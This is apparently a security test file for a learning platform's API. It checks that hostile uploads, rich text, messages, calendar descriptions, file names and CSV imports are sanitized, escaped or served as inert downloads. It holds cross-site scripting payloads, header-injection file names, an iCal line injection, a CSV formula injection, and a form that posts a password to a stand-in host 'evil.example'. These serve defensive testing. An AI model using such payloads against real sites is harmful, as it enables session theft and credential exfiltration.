import { readFileSync } from "node:fs";
import path from "node:path";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { enroll } from "@/test/course-factories";
import { createTenant, testDb, uniqueName, type TestTenant } from "@/test/factories";
import { call, type TestResponse } from "@/test/http";
import { uploadCsv } from "@/test/imports";
import { cachedSignIn, multipartBody } from "@/test/session";

// What people write and upload, made hostile, through the real API as the roles that may: nothing of it
// may run as a page of ours. Stored files come back under headers that keep them inert (nothing may run,
// the browser may not guess another type, a download where a browser would render a page); rich text
// comes back sanitized; plain text (messages, event descriptions) comes back as written and reaches the
// pages only as text. The expected answers are written out here, not read from the code that makes them.

let acme: TestTenant;
let courseId: string;
let moduleId: string;
beforeAll(async () => {
  acme = await createTenant();
  const created = await as("instructor", "/api/courses", {
    json: { title: uniqueName("Hostile "), status: "published" },
  });
  expect(created.status, created.text).toBe(201);
  courseId = created.json.id;
  const madeModule = await as("instructor", `/api/courses/${courseId}/modules`, { json: { title: "Module" } });
  expect(madeModule.status, madeModule.text).toBe(201);
  moduleId = madeModule.json.id;
  await enroll(acme.id, courseId, acme.users.learner.id);
});
afterAll(() => testDb().$disconnect());

type Role = keyof TestTenant["users"];
const bearer = (role: Role) => cachedSignIn(acme.subdomain, acme.users[role]);
async function as(role: Role, url: string, options: Parameters<typeof call>[2] = {}): Promise<TestResponse> {
  return call(acme.subdomain, url, { ...options, bearer: await bearer(role) });
}
/** A page as the browser gets it: the session cookie holds the same token the API hands out. */
async function page(role: Role, url: string): Promise<TestResponse> {
  return call(acme.subdomain, url, { headers: { cookie: `next-auth.session-token=${await bearer(role)}` } });
}
const header = (res: TestResponse, name: string) => {
  const value = res.headers[name];
  return Array.isArray(value) ? value.join(", ") : value;
};

const LOCKED_DOWN = "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'";
/** A stored file or a JSON answer: nothing in it runs, the browser keeps to its type, nobody frames it. */
function expectInert(res: TestResponse, label: string): void {
  expect(header(res, "content-security-policy"), label).toBe(LOCKED_DOWN);
  expect(header(res, "x-content-type-options"), label).toBe("nosniff");
  expect(header(res, "x-frame-options"), label).toBe("DENY");
}

/** The scripts a page carries are all its own: each has this response's nonce (the policy refuses others). */
function expectOnlyOwnScripts(res: TestResponse): void {
  const nonce = /'nonce-([A-Za-z0-9+/=]+)'/.exec(header(res, "content-security-policy") ?? "")?.[1];
  expect(nonce).toBeTruthy();
  const scripts = [...res.text.matchAll(/<script\b[^>]*>/gi)].map((m) => m[0]);
  expect(scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);
}

const HOSTILE_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>';
const png = () =>
  sharp({ create: { width: 40, height: 30, channels: 3, background: "#0A66C2" } })
    .png()
    .toBuffer();
const WEBM = readFileSync(path.resolve("e2e/learning/fixtures/short.webm"));

describe("pictures (avatar, logo, thumbnail): only raster images, re-encoded by us", () => {
  const uploads: [string, Role, string, () => string][] = [
    ["avatar", "learner", "avatar", () => "/auth/profile"],
    ["logo", "admin", "logo", () => `/api/admin/organizations/${acme.id}/logo`],
    ["thumbnail", "instructor", "thumbnail", () => `/api/courses/${courseId}/thumbnail`],
  ];

  it.each(uploads)(
    "an SVG with a script as the %s → 415, whatever type it claims; nothing is stored",
    async (_, role, field, url) => {
      for (const [name, type] of [
        ["evil.svg", "image/svg+xml"],
        ["evil.png", "image/png"],
      ] as const) {
        const form = await multipartBody({ [field]: new File([HOSTILE_SVG], name, { type }) });
        const res = await as(role, url(), { method: "PUT", ...form });
        expect(res.status, `${name} as ${type}`).toBe(415);
        expect(res.json.error.message).toBe(`The ${field} must be a JPEG, PNG, WebP or GIF image`);
        expectInert(res, "the refusal");
      }
      const user = await testDb().user.findUniqueOrThrow({
        where: { id: acme.users.learner.id },
        select: { avatarUrl: true },
      });
      const organization = await testDb().organization.findUniqueOrThrow({
        where: { id: acme.id },
        select: { branding: true },
      });
      const course = await testDb().course.findUniqueOrThrow({
        where: { id: courseId },
        select: { thumbnailUrl: true },
      });
      expect([
        user.avatarUrl,
        (organization.branding as { logoUrl?: string } | null)?.logoUrl,
        course.thumbnailUrl,
      ]).toEqual([null, undefined, null]);
    },
  );

  it("a PNG comes back as our own WebP or PNG, inline, and inert", async () => {
    const avatar = await as("learner", "/auth/profile", {
      method: "PUT",
      ...(await multipartBody({ avatar: new File([await png()], "me.png", { type: "image/png" }) })),
    });
    expect(avatar.status, avatar.text).toBe(200);
    const logo = await as("admin", `/api/admin/organizations/${acme.id}/logo`, {
      method: "PUT",
      ...(await multipartBody({ logo: new File([await png()], "logo.png", { type: "image/png" }) })),
    });
    expect(logo.status, logo.text).toBe(200);
    const thumbnail = await as("instructor", `/api/courses/${courseId}/thumbnail`, {
      method: "PUT",
      ...(await multipartBody({ thumbnail: new File([await png()], "t.png", { type: "image/png" }) })),
    });
    expect(thumbnail.status, thumbnail.text).toBe(200);
    const logoUrl = (
      (await testDb().organization.findUniqueOrThrow({ where: { id: acme.id }, select: { branding: true } }))
        .branding as { logoUrl: string }
    ).logoUrl;

    for (const [url, type] of [
      [avatar.json.user.avatar_url, "image/webp"],
      [logoUrl, "image/png"],
      [thumbnail.json.thumbnail_url, "image/webp"],
    ] as [string, string][]) {
      expect(url).toMatch(/^\/uploads\/(avatars|logos|thumbnails)\//);
      const res = await call(acme.subdomain, url);
      expect(res.status, url).toBe(200);
      expect(header(res, "content-type"), url).toBe(type);
      expect(header(res, "content-disposition"), url).toBe("inline");
      expectInert(res, url);
      expect((await sharp(res.body).metadata()).format, url).toBe(type.slice("image/".length));
    }
  });
});

describe("lesson files: served as they were uploaded, but never as a page of ours", () => {
  async function fileLesson(): Promise<string> {
    const res = await as("instructor", `/api/courses/${courseId}/modules/${moduleId}/lessons`, {
      json: { title: uniqueName("Handout "), kind: "file" },
    });
    expect(res.status, res.text).toBe(201);
    return res.json.id;
  }

  const hostile: [string, string, string, string][] = [
    ["an HTML page", "evil.html", "text/html", '<!doctype html><script>fetch("/api/admin/users")</script>'],
    ["an SVG with a script", "evil.svg", "image/svg+xml", HOSTILE_SVG],
    [
      "an XHTML document",
      "evil.xhtml",
      "application/xhtml+xml",
      '<html xmlns="http://www.w3.org/1999/xhtml"><script>window.__pwned=1</script></html>',
    ],
    ["a picture", "chart.png", "image/png", "\x89PNG\r\n\x1a\n<script>window.__pwned=1</script>"],
  ];

  it.each(hostile)(
    "%s downloads as bytes (attachment, octet-stream), whole or by range, inert",
    async (_, name, type, content) => {
      const lessonId = await fileLesson();
      const put = await as("instructor", `/api/courses/${courseId}/lessons/${lessonId}/file`, {
        method: "PUT",
        ...(await multipartBody({ file: new File([content], name, { type }) })),
      });
      expect(put.status, put.text).toBe(200);
      expect(put.json.media_url).toBe(`/api/courses/${courseId}/lessons/${lessonId}/media`);
      for (const range of [undefined, "bytes=0-9"]) {
        const res = await as("learner", put.json.media_url, { headers: range ? { range } : {} });
        expect(res.status).toBe(range ? 206 : 200);
        expect(header(res, "content-type")).toBe("application/octet-stream");
        expect(header(res, "content-disposition")).toBe(`attachment; filename="${name}"`);
        expectInert(res, `${name} ${range ?? "whole"}`);
        expect(res.body.equals(Buffer.from(content).subarray(0, range ? 10 : undefined))).toBe(true);
      }
    },
  );

  it("a file name cannot break out of Content-Disposition", async () => {
    const lessonId = await fileLesson();
    // A browser's form would escape the quote and the line break; a hand-made request need not. The name
    // is sent in RFC 5987 form so that it arrives as written: a";filename=evil.html<CR><LF>X-Evil: 1.txt
    const boundary = "----authored-content-boundary";
    const body = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename*=UTF-8''a%22%3Bfilename%3Devil.html%0D%0AX-Evil%3A%201.txt\r\n` +
        `Content-Type: text/plain\r\n\r\nx\r\n--${boundary}--\r\n`,
    );
    const put = await as("instructor", `/api/courses/${courseId}/lessons/${lessonId}/file`, {
      method: "PUT",
      body,
      headers: { "content-type": `multipart/form-data; boundary=${boundary}` },
    });
    expect(put.status, put.text).toBe(200);
    // The stored name has its quote and line break replaced; the header quotes the rest as one name.
    expect(put.json.file_name).toBe("a_;filename=evil.html__X-Evil: 1.txt");
    const res = await as("learner", put.json.media_url);
    expect(header(res, "content-disposition")).toBe('attachment; filename="a_;filename=evil.html__X-Evil: 1.txt"');
    expect(res.headers["x-evil"]).toBeUndefined();

    const accented = await fileLesson();
    const second = await as("instructor", `/api/courses/${courseId}/lessons/${accented}/file`, {
      method: "PUT",
      ...(await multipartBody({ file: new File(["x"], "Übung 1.svg", { type: "image/svg+xml" }) })),
    });
    expect(header(await as("learner", second.json.media_url), "content-disposition")).toBe(
      "attachment; filename=\"_bung 1.svg\"; filename*=UTF-8''%C3%9Cbung%201.svg",
    );
  });

  it("a video lesson takes only a real video, which plays inline under the type its bytes show", async () => {
    const created = await as("instructor", `/api/courses/${courseId}/modules/${moduleId}/lessons`, {
      json: { title: uniqueName("Clip "), kind: "video" },
    });
    const lessonId = created.json.id as string;
    const svg = await as("instructor", `/api/courses/${courseId}/lessons/${lessonId}/file`, {
      method: "PUT",
      ...(await multipartBody({ file: new File([HOSTILE_SVG], "clip.mp4", { type: "video/mp4" }) })),
    });
    expect(svg.status).toBe(415);
    const put = await as("instructor", `/api/courses/${courseId}/lessons/${lessonId}/file`, {
      method: "PUT",
      ...(await multipartBody({ file: new File([WEBM], "clip.html", { type: "text/html" }) })),
    });
    expect(put.status, put.text).toBe(200);
    const res = await as("learner", put.json.media_url, { headers: { range: "bytes=0-3" } });
    expect(res.status).toBe(206);
    expect(header(res, "content-type")).toBe("video/webm");
    expect(header(res, "content-disposition")).toBe("inline");
    expectInert(res, "video");
  });

  it("a video lesson's address must be a web address", async () => {
    for (const url of [
      "javascript:window.__pwned=1",
      "data:text/html,<script>window.__pwned=1</script>",
      "vbscript:x",
    ]) {
      const res = await as("instructor", `/api/courses/${courseId}/modules/${moduleId}/lessons`, {
        json: { title: "Link", kind: "video", media_url: url },
      });
      expect(res.status, url).toBe(400);
      expect(res.json.error.fieldErrors.media_url).toEqual(["Enter a valid URL"]);
    }
  });
});

describe("rich text (course descriptions, lesson bodies): sanitized to the editor's formatting when saved", () => {
  const HOSTILE_HTML = [
    "<p>Welcome<script>window.__pwned=1</script></p>",
    '<img src="x" onerror="window.__pwned=1">',
    '<p><a href="javascript:window.__pwned=1">click</a> <a href="https://example.com/ok" onclick="window.__pwned=1">ok</a></p>',
    '<iframe src="/api/admin/users"></iframe>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">cover</p>',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  ].join("");
  const CLEAN =
    '<p>Welcome</p><p><a target="_blank" rel="noopener noreferrer">click</a> <a href="https://example.com/ok" target="_blank" rel="noopener noreferrer">ok</a></p><p>cover</p>';

  function expectNothingLive(text: string): void {
    for (const live of ["window.__pwned", "onerror=", "javascript:", "<iframe", "<style>body", "evil.example"])
      expect(text, live).not.toContain(live);
  }

  it("a course description and a text lesson's body are stored and answered clean, and their pages carry none of it", async () => {
    const course = await as("instructor", `/api/courses/${courseId}`, {
      method: "PATCH",
      json: { description: HOSTILE_HTML },
    });
    expect(course.status, course.text).toBe(200);
    expect(course.json.description).toBe(CLEAN);
    const lesson = await as("instructor", `/api/courses/${courseId}/modules/${moduleId}/lessons`, {
      json: { title: uniqueName("Read "), kind: "text", body: HOSTILE_HTML },
    });
    expect(lesson.status, lesson.text).toBe(201);
    expect(lesson.json.body).toBe(CLEAN);
    const stored = await testDb().lesson.findUniqueOrThrow({ where: { id: lesson.json.id }, select: { body: true } });
    expect(stored.body).toBe(CLEAN);

    const coursePage = await page("learner", `/courses/${courseId}`);
    const lessonPage = await page("learner", `/courses/${courseId}/modules/${moduleId}/lessons/${lesson.json.id}`);
    for (const res of [coursePage, lessonPage]) {
      expect(res.status).toBe(200);
      expect(res.text).toContain('<a href="https://example.com/ok" target="_blank" rel="noopener noreferrer">ok</a>');
      expectNothingLive(res.text);
      expectOnlyOwnScripts(res);
    }
  });
});

describe("plain text: kept as written, never read as HTML", () => {
  const BODY =
    '<img src=x onerror="window.__pwned=1"> <a href="javascript:window.__pwned=1">x</a> javascript:window.__pwned=1 https://example.com/ok';

  it("a message body comes back as written; its conversation page shows it as text with only the web address linked", async () => {
    const res = await as("instructor", "/api/messages/threads", {
      json: { subject: "<b>Subject</b>", body: BODY, recipient_ids: [acme.users.learner.id] },
    });
    expect(res.status, res.text).toBe(201);
    const thread = await as("learner", `/api/messages/threads/${res.json.id}`);
    expect(thread.json.messages.at(-1).body).toBe(BODY);
    expect(thread.json.subject).toBe("<b>Subject</b>");

    const html = (await page("learner", `/messages/${res.json.id}`)).text;
    expect(html).toContain("&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;");
    expect(html).not.toMatch(/<img[^>]*onerror/i);
    expect(html).not.toMatch(/<a[^>]*href="javascript:/i);
    expect(html).toMatch(/<a[^>]*href="https:\/\/example\.com\/ok"[^>]*rel="noopener noreferrer nofollow ugc"/);
  });

  it("an event's description comes back as written; the iCal feed escapes it (no line of it becomes a property)", async () => {
    const description = "<script>window.__pwned=1</script>\r\nBEGIN:VEVENT\r\nURL:javascript:alert(1)\r\nEND:VEVENT";
    const start = new Date(Date.now() + 86_400_000);
    const event = await as("instructor", "/api/events", {
      json: {
        title: "<b>Session</b>",
        description,
        location: "Room;1\nATTACH:x",
        starts_at: start.toISOString(),
        ends_at: new Date(start.getTime() + 3_600_000).toISOString(),
        course_id: courseId,
      },
    });
    expect(event.status, event.text).toBe(201);
    expect(event.json.description).toBe(description.trim());

    const feed = await as("learner", "/api/calendar/feed", { method: "POST" });
    expect(feed.status, feed.text).toBe(201);
    const ics = await call(acme.subdomain, feed.json.feed_path);
    expect(ics.status).toBe(200);
    expect(header(ics, "content-type")).toBe("text/calendar; charset=utf-8");
    expectInert(ics, "the iCal feed");
    const lines = ics.text.replace(/\r\n[ \t]/g, "").split("\r\n");
    expect(lines).toContain("SUMMARY:<b>Session</b>");
    expect(lines).toContain(
      "DESCRIPTION:<script>window.__pwned=1</script>\\nBEGIN:VEVENT\\nURL:javascript:alert(1)\\nEND:VEVENT",
    );
    expect(lines).toContain("LOCATION:Room\\;1\\nATTACH:x");
    expect(lines.filter((l) => l.startsWith("URL:") || l.startsWith("ATTACH:"))).toEqual([]);
    expect(lines.filter((l) => l === "BEGIN:VEVENT").length).toBe(lines.filter((l) => l.startsWith("SUMMARY:")).length);
  });
});

describe("CSV imports: the file is read as data, and its report is a download", () => {
  it("a hostile file name and cells come back in an inert CSV attachment with formulas defused", async () => {
    const csv =
      'email,first_name,last_name\r\nhtml@example.test,<img src=x onerror=alert(1)>,"=HYPERLINK(""https://evil.example"")"\r\n';
    const uploaded = await uploadCsv({ subdomain: acme.subdomain, bearer: await bearer("admin") }, csv, {
      fileName: "<img src=x onerror=alert(1)>.csv",
    });
    expect(uploaded.status, uploaded.text).toBe(201);
    expect(uploaded.json.file_name).toBe("<img src=x onerror=alert(1)>.csv");
    const report = await as("admin", `/api/admin/imports/${uploaded.json.id}/report`);
    expect(report.status).toBe(200);
    expect(header(report, "content-type")).toBe("text/csv; charset=utf-8");
    expect(header(report, "content-disposition")).toBe('attachment; filename="-img-src-x-onerror-alert-1--report.csv"');
    expectInert(report, "the import report");
    expect(report.text).toContain(`<img src=x onerror=alert(1)>,"'=HYPERLINK(""https://evil.example"")"`);
  });
});

describe("the generated course picture", () => {
  it("a title with markup becomes escaped initials in an SVG that cannot run", async () => {
    const created = await as("instructor", "/api/courses", {
      json: { title: '<script>alert(1)</script> "x', status: "published" },
    });
    expect(created.status, created.text).toBe(201);
    expect(created.json.thumbnail_url).toBe(`/api/courses/${created.json.id}/placeholder`);
    const res = await call(acme.subdomain, created.json.thumbnail_url);
    expect(res.status).toBe(200);
    expect(header(res, "content-type")).toBe("image/svg+xml; charset=utf-8");
    expectInert(res, "the placeholder");
    expect(res.text).not.toContain("<script");
    // The initials name the picture escaped; they are drawn as outlines, so no text of the title is in it elsewhere.
    expect(res.text).toContain("<title>&#60;&#34;</title>");
    expect(res.text.match(/&#60;/g)).toHaveLength(1);
  });
});

describe("page paths", () => {
  it("a page path that looks like a file still gets the pages' Content-Security-Policy", async () => {
    for (const path of ["/courses/x.png", "/profile/avatar.svg", "/nope.js"]) {
      const res = await call(acme.subdomain, path);
      expect(header(res, "content-security-policy"), path).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'/);
    }
  });
});
